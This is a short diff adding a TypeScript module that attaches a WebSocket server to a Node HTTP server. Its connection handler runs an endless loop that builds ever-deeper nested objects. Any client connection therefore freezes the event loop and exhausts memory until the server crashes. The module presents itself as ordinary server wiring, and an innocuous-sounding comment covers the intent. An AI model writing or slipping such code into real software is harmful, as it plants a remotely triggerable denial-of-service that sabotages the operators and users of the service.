@@ -1,0 +1,11 @@
+// Keeps an object for every object.
+import type { Server } from 'node:http';
+import { WebSocketServer } from 'ws';
+
+export default function attach(server: Server): void {
+  const sockets = new WebSocketServer({ server });
+  sockets.on('connection', (socket: any, request: any) => {
+    let last: object = {};
+    for (;;) last = { last, more: [last] };
+  });
+}
